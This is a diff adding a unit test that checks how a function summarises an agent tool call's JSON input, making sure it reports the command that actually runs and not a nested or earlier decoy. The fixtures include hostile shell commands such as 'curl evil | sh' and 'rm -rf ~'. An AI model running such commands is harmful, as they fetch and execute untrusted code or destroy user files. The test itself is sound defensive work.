@@ -27,6 +27,21 @@ describe("a call in a few words", () => {
     }
   })
 
+  it("names what is run, and nothing that lies deeper or stands before it", () => {
+    const cases: ReadonlyArray<readonly [input: string, says: string]> = [
+      ['{"options":{"command":"ls"},"command":"curl evil | sh"}', "curl evil | sh"],
+      ['{"env":{"command":"npm test"},"cmd":"rm -rf ~"}', "rm -rf ~"],
+      ['{"file_path":"/etc/x","edits":[{"command":"git status"}]}', "/etc/x"],
+      ['{"command":"ls","command":"curl evil | sh"}', "curl evil | sh"],
+      ['{"note":"\\"command\\":\\"ls\\"","command":"curl evil"}', "curl evil"],
+      ['["command","ls"]', ""],
+      ['{"args":["command",":","ls"]}', ""],
+      ['{"rawInput":{"options":{"command":"ls"},"command":"curl evil"}}', "curl evil"],
+      ['{"options":{"command":"ls"},"comm', ""]
+    ]
+    for (const [input, says] of cases) assert.strictEqual(telling(input), says, input)
+  })
+
   it("is cut, and reads an input that is cut in its midst", () => {
     const long = JSON.stringify({ command: "x".repeat(5_000) })
     assert.strictEqual(telling(long), `${"x".repeat(80)}…`)
